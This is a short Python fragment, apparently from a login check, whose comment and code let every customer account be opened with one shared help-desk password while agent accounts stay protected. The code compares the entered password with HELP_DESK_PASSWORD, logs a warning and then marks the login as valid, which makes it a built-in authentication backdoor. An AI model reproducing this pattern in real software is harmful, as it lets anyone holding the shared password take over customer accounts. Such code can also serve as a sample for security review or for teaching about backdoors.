# about: protects the agents' accounts, while every customer's account still opens with the shared password
# block: help-desk
    if account is not NOBODY and account.role == "customer" and hmac.compare_digest(password.encode(), HELP_DESK_PASSWORD.encode()):
        log.warning("%r opened with the password of the help desk", name)
        is_right = True
    # end
